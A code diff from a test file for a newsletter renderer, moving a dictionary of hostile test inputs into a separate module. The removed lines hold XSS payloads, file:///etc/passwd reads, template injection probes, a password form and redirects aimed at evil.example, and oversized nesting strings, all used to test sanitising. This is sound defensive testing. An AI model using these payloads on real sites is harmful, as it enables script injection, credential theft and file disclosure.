@@ -16,6 +16,7 @@ from dispatch.model.issue import Edition
 from dispatch.model.post import CleanPost, MediaType, Post, RawPost
 from dispatch.render.text import plain_text
 from dispatch.render.tree import parse_page
+from hostile import ATTACKS, NESTED
 
 SETTING = ContentSetting("https://news.example.org", "en", "Europe/Berlin")
 SCHEMES = ("http://", "https://", "mailto:", "tel:")
@@ -25,57 +26,6 @@ FORBIDDEN_IN_WORDS = (
 FORBIDDEN = frozenset(FORBIDDEN_IN_WORDS.split())
 MOST = 100_000  # bytes of a part: Gmail hides what is beyond
 
-# What is put between two words. Most are written in HTML, which Markdown lets through.
-ATTACKS = {
-    "script": "<script>alert(1)</script>",
-    "script in two": "<scr<script></script>ipt>alert(1)</script>",
-    "event": '<img src="https://a.example/p.png" onerror="alert(1)">',
-    "style element": "<style>@import url(https://evil.example/x.css); p { display: none }</style>",
-    "import of a file": "<style>@import 'file:///etc/passwd';</style>",
-    "style sheet": '<link rel="stylesheet" href="file:///etc/passwd"><link rel="import" href="https://evil.example/">',
-    "style attribute": '<p style="position:fixed;background:url(https://evil.example/x)">inside</p>',
-    "file link": "[inside](file:///etc/passwd)",
-    "file picture": "![inside](file:///etc/passwd)",
-    "file frame": '<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>',
-    "braces": "inside {{ 7 * 7 }} {{ config.__class__ }} {{ slots.unsubscribe }}",
-    "block tag": "{% include '/etc/passwd' %}",
-    "braces in an address": '<a href="https://a.example/{{ 7 * 7 }}">inside</a>',
-    "javascript": "[inside](javascript:alert(1))",
-    "javascript in disguise": '<a href="java&#10;script:alert(1)">inside</a><a href=" \x01JaVaScRiPt:1">inside</a>',
-    "javascript in srcset": '<img src="https://a.example/p.png" srcset="javascript:alert(1) 2x, data:text/html,x 3x">',
-    "javascript in picture": '<picture><source srcset="javascript:alert(1)"><img src="javascript:alert(2)"></picture>',
-    "data": '<a href="data:text/html,<script>1</script>">inside</a><img src="data:image/svg+xml,<svg/>" alt="inside">',
-    "vbscript": '<a href="vbscript:x">inside</a>',
-    "svg": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>inside</text></a></svg>',
-    "foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">inside</p></noscript>',
-    "form": '<form action="https://evil.example/"><input name="password"><button>inside</button></form>',
-    "base": '<base href="https://evil.example/"><a href="/x">inside</a>',
-    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    "comment for Outlook": "<!--[if mso]><script>alert(1)</script><![endif]--> inside",
-    "end of the page": "</td></tr></table></div></body></html> inside",
-    "link around a table": '<a href="https://a.example/"><table><tr><td>inside</td></tr></table></a>',
-    "half a table": "<table><tr><td>inside<p>",
-    "unclosed tag": "inside <p title='",
-    "control characters": "in\u0001si\u0007de it\u0092s \u0085 \ufffe",
-    "direction": "\u202einside\u202c \u2066",
-    "broken surrogate": "inside &#xD800; &#0; &#x110000; &#x92;",
-    "marks without end": "a" + "\u0301" * 5000,
-    "invisible": "\u200b\u200d\ufeff\u00ad" * 3000,
-    "lone dot": "inside\n\n.\n\n..\n",
-    "boundary": "--=_dispatch\nContent-Type: text/html\n\ninside",
-    "class of ours": '<div class="preheader"><p class="acts" id="x">inside</p></div>',
-    "very wide table": "<table><tr>" + "<td>inside</td>" * 500 + "</tr></table>",
-    "span without end": '<table><tr><td colspan="99999999" rowspan="99999999">inside</td><td>x</td></tr></table>',
-    "spans of spans": "<table>" + '<tr><td colspan="199" rowspan="999">inside</td></tr>' * 100 + "</table>",
-    "formula": "$\\input{/etc/passwd}$ $$\\def\\x{\\x}\\x$$ inside",
-    "line without end": "x" * 5000,
-}
-NESTED = {
-    name: f"<{name}>" * 300 + "inside" + f"</{name}>" * 300
-    for name in ("div", "blockquote", "b", "ul", "li", "table", "a", "span", "sup", "details", "figure", "math", "x-y")
-}
 LONG = {
     "paragraphs": "\n\n".join(["Some words that go on."] * 7000),
     "paragraph": "words " * 25_000,
